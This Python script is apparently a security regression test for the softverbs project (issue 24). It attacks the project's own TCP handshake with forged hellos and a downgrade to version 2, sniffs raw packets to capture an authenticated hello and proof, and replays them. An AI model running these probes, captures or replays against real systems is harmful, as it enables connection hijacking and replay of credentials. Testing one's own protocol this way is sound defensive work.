#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A stranger at softverbs' TCP door (issue 24): no softverbs, only the
hello protocol as provider/transport/tcp.h lays it out (version 3), spoken by hand.

  tcp_attacker.py probe HOST PORT DST_QPN SRC_QPN [FLAGS]
      Calls the door at HOST:PORT naming QP DST_QPN from SRC_QPN (hex),
      with hello flags FLAGS (1: claims the link's cookie; 2: claims a
      secret, with a MAC of random bytes), and reads every answer until
      the door closes (5 s at most).  If a QP answers OK it then sends a
      SEND record and reads what comes (as the hijack of issue 24 did).
      Prints one JSON line: the raw bytes read (hex), the statuses, and
      "took": true if any answer let it in (OK, CHALLENGE) or any STATE
      frame or ack field (positions, epoch, sizes) reached it.
  tcp_attacker.py sniff IFACE PORT SECONDS OUT
      Captures (AF_PACKET, root) the payloads of TCP segments to PORT
      on IFACE for SECONDS at most, and writes to OUT the first whole
      hello with the cookie flag and the proof that followed it on its
      connection; prints "captured LEN SRC DST".
  tcp_attacker.py replay HOST PORT FILE
      Sends the captured hello byte for byte; if challenged, sends the
      captured proof; prints the JSON line as probe does.
  tcp_attacker.py setup_times IFACE PORT SECONDS
      (bench) For SECONDS, the set-up of every link connection to or from
      PORT seen on IFACE: from the caller's SYN to the callee's OK, in
      microseconds, one line each ("setup US" ), as the wire shows it.
"""
import json
import os
import select
import socket
import struct
import sys
import time

MAGIC = 0x53567463
VERSION = 3
# struct sv_tcp_hello: magic, version, src_qpn, dst_qpn, rx_size, rsp_size,
# nonce, flags, rsvd, cnonce[16], mac[32], crc, rsvd2 (104 bytes)
HELLO = struct.Struct("<IIIIQQQII16s32sII")
# struct sv_tcp_hello_ack: magic, version(16), status(16), src_qpn, epoch,
# rx_recv, rsp_recv, rx_size, rsp_size, nonce[16], mac[32], crc, rsvd
ACK = struct.Struct("<IHHIIQQQQ16s32sII")
PROOF_LEN = 64
RX, RSP = 1 << 20, 1 << 18  # a real peer's rings (SOFTVERBS_RING_KB's default)
# Version 2's (before issue 24): a door that refuses version 3 is asked
# again in its own, so that the test shows what an older build let in.
HELLO2 = struct.Struct("<IIIIQQQQQII")  # ... rx_recv, rsp_recv, nonce, epoch
ACK2 = struct.Struct("<IHHIIQQQQII")
STATUS = {0: "OK", 1: "NO_QP", 2: "BUSY", 3: "REFUSED", 4: "PASSED",
          5: "VERSION_REFUSED", 6: "CHALLENGE", 7: "SECRET_REFUSED"}
assert HELLO.size == 104 and ACK.size == 104

# CRC-32C (Castagnoli), as provider/wire/crc32c.c
_T = []
for i in range(256):
    c = i
    for _ in range(8):
        c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
    _T.append(c)


def crc32c(b):
    c = 0xFFFFFFFF
    for x in b:
        c = _T[(c ^ x) & 0xFF] ^ (c >> 8)
    return c ^ 0xFFFFFFFF


def hello(dst, src, flags):
    mac = os.urandom(32) if flags & 2 else bytes(32)
    h = HELLO.pack(MAGIC, VERSION, src, dst, RX, RSP,
                   int.from_bytes(os.urandom(8), "little"), flags, 0,
                   os.urandom(16), mac, 0, 0)
    return HELLO.pack(*HELLO.unpack(h)[:-2], crc32c(h), 0)


def hello2(dst, src):
    h = HELLO2.pack(MAGIC, 2, src, dst, RX, RSP, 0, 0,
                    int.from_bytes(os.urandom(8), "little"), 0x7FFFFFF0, 0)
    return HELLO2.pack(*HELLO2.unpack(h)[:-1], crc32c(h))


def read_all(s, deadline, out, ack=None):
    ack = ack or ACK
    while time.monotonic() < deadline:
        r, _, _ = select.select([s], [], [], deadline - time.monotonic())
        if not r:
            return False
        try:
            b = s.recv(65536)
        except OSError:
            return True
        if not b:
            return True
        out += b
        if len(out) % ack.size == 0 and \
                _status(out[-ack.size:], ack) in (0, 6):
            return False  # let in: the caller's move
    return False


def _status(b, ack=None):
    return struct.unpack("<IHH", bytes(b[:8]))[2]  # every version's


def report(raw, extra=None, ack=None):
    ack = ack or ACK
    st = []
    took = False
    off = 0
    while off + ack.size <= len(raw):
        a = ack.unpack(raw[off:off + ack.size])
        if a[0] != MAGIC:
            took = True  # frames (a STATE) after an OK
            break
        st.append(STATUS.get(a[2], str(a[2])))
        if a[2] == 0 or any(a[4:9]):
            took = True  # let in, or epoch/positions/sizes told
        off += ack.size
    if off < len(raw):
        took = True
    r = {"raw": raw.hex(), "statuses": st, "took": took}
    if extra:
        r.update(extra)
    print(json.dumps(r), flush=True)


def connect(host, port):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((host, port))
    return s


def probe(host, port, dst, src, flags):
    s = connect(host, port)
    s.sendall(hello(dst, src, flags))
    raw = bytearray()
    ack = ACK
    read_all(s, time.monotonic() + 5, raw)
    if len(raw) >= 8 and _status(raw) == 5:  # an older door: its version
        s.close()
        s = connect(host, port)
        s.sendall(hello2(dst, src))
        raw = bytearray()
        ack = ACK2
        read_all(s, time.monotonic() + 5, raw, ack)
    if len(raw) >= ack.size and _status(raw[-ack.size:], ack) == 0:
        # in: bytes as a peer's frames (junk here: the link is broken
        # anyway, as the hijack of issue 24 broke it); what comes back
        # is recorded
        s.sendall(b"\0" * 24)
        read_all(s, time.monotonic() + 1, raw, ack)
    s.close()
    report(bytes(raw), ack=ack)


def sniff(iface, port, seconds, out):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((iface, 0))
    s.settimeout(0.2)
    print("ready", flush=True)
    conns = {}
    best = None
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            f = s.recv(65536)
        except socket.timeout:
            continue
        if len(f) < 14 + 20 or f[12:14] != b"\x08\x00" or f[23] != 6:
            continue
        ihl = (f[14] & 15) * 4
        t = 14 + ihl
        sport, dport = struct.unpack(">HH", f[t:t + 4])
        doff = (f[t + 12] >> 4) * 4
        pay = f[t + doff:14 + struct.unpack(">H", f[16:18])[0]]
        if dport != port or not pay:
            continue
        key = (f[26:30], sport, f[30:34])
        seq = struct.unpack(">I", f[t + 4:t + 8])[0]
        c = conns.setdefault(key, {"seq": seq, "buf": bytearray()})
        if seq != c["seq"]:
            continue  # a retransmission, or out of order: not needed
        c["seq"] = (seq + len(pay)) & 0xFFFFFFFF
        buf = c["buf"]
        buf += pay
        if len(buf) >= HELLO.size + PROOF_LEN and "got" not in c:
            h = HELLO.unpack(bytes(buf[:HELLO.size]))
            if h[0] == MAGIC and h[7] & 1:
                c["got"] = True
                best = (bytes(buf[:HELLO.size + PROOF_LEN]),
                        socket.inet_ntoa(key[0]), socket.inet_ntoa(key[2]))
                break
    if best is None:
        sys.exit("no proven hello and proof seen")
    with open(out, "wb") as o:
        o.write(best[0])
    print("captured", len(best[0]), best[1], best[2], flush=True)


def setup_times(iface, port, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((iface, 0))
    s.settimeout(0.2)
    print("ready", flush=True)
    syn = {}
    back = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            f = s.recv(65536)
        except socket.timeout:
            continue
        now = time.monotonic()
        if len(f) < 14 + 20 or f[12:14] != b"\x08\x00" or f[23] != 6:
            continue
        t = 14 + (f[14] & 15) * 4
        sport, dport = struct.unpack(">HH", f[t:t + 4])
        flags = f[t + 13]
        doff = (f[t + 12] >> 4) * 4
        pay = f[t + doff:14 + struct.unpack(">H", f[16:18])[0]]
        if dport == port and flags & 0x02 and not flags & 0x10:
            syn[(f[26:30], sport)] = now  # a call
            back[(f[26:30], sport)] = bytearray()
        elif sport == port and pay:
            k = (f[30:34], dport)
            if k not in back:
                continue
            b = back[k]
            b += pay
            while len(b) >= ACK.size:
                st = _status(b)
                del b[:ACK.size]
                if st == 0:
                    print("setup %.0f" % ((now - syn.pop(k)) * 1e6),
                          flush=True)
                    del back[k]
                    break
                if st not in (4, 6):
                    del back[k]
                    break


def replay(host, port, path):
    b = open(path, "rb").read()
    s = connect(host, port)
    s.sendall(b[:HELLO.size])
    raw = bytearray()
    read_all(s, time.monotonic() + 5, raw)
    if len(raw) >= ACK.size and _status(raw[-ACK.size:]) == 6:
        s.sendall(b[HELLO.size:])
        read_all(s, time.monotonic() + 5, raw)
    s.close()
    report(bytes(raw))


def main():
    cmd = sys.argv[1]
    if cmd == "probe":
        probe(sys.argv[2], int(sys.argv[3]), int(sys.argv[4], 16),
              int(sys.argv[5], 16),
              int(sys.argv[6]) if len(sys.argv) > 6 else 0)
    elif cmd == "sniff":
        sniff(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]),
              sys.argv[5])
    elif cmd == "setup_times":
        setup_times(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
    elif cmd == "replay":
        replay(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
